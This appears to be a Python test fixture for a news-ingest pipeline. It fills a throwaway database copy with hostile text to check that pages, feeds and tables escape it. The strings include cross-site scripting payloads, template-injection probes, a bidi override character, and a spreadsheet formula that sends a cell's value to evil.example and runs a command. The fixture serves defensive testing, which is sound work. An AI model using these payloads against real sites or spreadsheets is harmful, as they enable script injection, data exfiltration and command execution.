"""Texts that try to break out of a page, a feed or a table, put where publishers, feeds and people could put them.

The rows are written past the stages, which would have cleaned some of them: the desk must not depend on that.
"""

from __future__ import annotations

from typing import Any

OVERRIDE, ISOLATE = "\u202e", "\u2066"  # text after it is turned round; text after it is held apart
# Ends what it may stand in, then acts; sums up where a template would be read twice; asks elsewhere.
POISON = (
    "\"'></textarea></title></style></option></script --><script>window.pwned='tag'</script>"
    "<img src=/x onerror=\"window.pwned='image'\"><svg onload=\"window.pwned='svg'\"></svg>"
    "<a href=\"javascript:window.pwned='link'\">click</a><base href=//evil.example/><form action=//evil.example>"
    "{{ 6 * 7 * 1000 + 7 }} {% raw %} ${6*7} &lt;b&gt; ]]>"
)
SUM = "42007"  # what the braces would become
TURNED = f"{OVERRIDE}desrever{ISOLATE}"
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1)+cmd|' /C calc'!A0"
LINK = "javascript:window.pwned='address'//"
LONG = "wide" * 1000  # one word, for the width of a phone

# What is put before each text of these columns, whatever else stands there.
TEXTS = {
    "versions": ("title", "author"),
    "entries": ("title", "summary", "content", "author", "source"),
    "publishers": ("family",),
    "feeds": ("title", "note", "last_problem", "last_reason"),
    "claim_versions": ("statement",),
    "claim_events": ("reason", "headline"),
    "claims": ("title",),
    "origins": ("name",),
    "matches": ("why",),
    "articles": ("last_problem", "last_outcome"),
    "outcomes": ("problem",),
    "runs": ("problem",),
    "topics": ("name",),
    "alerts": ("subject", "problem"),
    "notices": ("reason",),
}
# Unique as they are, so each keeps its end.
ADDRESSES = {"articles": "url", "article_urls": "url", "feeds": "url", "entries": "url", "captures": "url"}


def poison(conn: Any) -> None:
    """`conn` is the pipeline's own, on a copy that may be spoilt."""
    known = {
        (r[0], r[1])
        for r in conn.execute(
            "select table_name, column_name from information_schema.columns where table_schema = 'ingest'"
        ).fetchall()
    }
    for table, columns in TEXTS.items():
        for column in columns:
            if (table, column) in known:
                conn.execute(
                    f"update ingest.{table} set {column} = %s || coalesce({column}, '')",
                    [f"{FORMULA} {POISON}{TURNED} "],
                )
    for table, column in ADDRESSES.items():
        if (table, column) in known:
            conn.execute(f"update ingest.{table} set {column} = %s || {column}", [LINK])
    # No form would take such a reader; a time zone goes into an attribute, and is looked up.
    conn.execute("update ingest.subscriptions set email = %s || email", [f"{POISON}{TURNED} "])
    # A publisher's name is unique; its language and country go into attributes.
    conn.execute(
        "update ingest.publishers set name = %s || name, country = %s, language = %s",
        [f"{POISON}{TURNED} ", '"><b', "x\" onclick='1"],
    )
    # One title is a megabyte long, some are one long word.
    for title, first, last in ((POISON + "wide " * 200_000, 0, 0), (LONG, 2, 4)):
        conn.execute(
            "update ingest.versions set title = %s where version_id in (select version_id from "
            "(select distinct version_id from analysis.article_evidence) v order by version_id limit %s offset %s)",
            [title, last - first + 1, first],
        )
    # A sentence is found in its paragraph, so both change together; figures quote it.
    conn.execute("update ingest.paragraphs set text = %s || text", [f"{POISON}{TURNED} "])
    conn.execute(
        "update ingest.matches set sentence = %s || sentence where sentence is not null", [POISON + TURNED + " "]
    )
    conn.execute("update ingest.figures set span = %s || span", [POISON + TURNED])
    conn.execute(
        "insert into ingest.reviews (claim_id, paragraph_id, match_id, verdict, reviewer, note, at) "
        "select claim_id, paragraph_id, match_id, 'rejected', %s, %s, now() from ingest.matches "
        "where tier = 'suggested' order by match_id limit 3",
        [POISON, FORMULA + POISON + TURNED],
    )
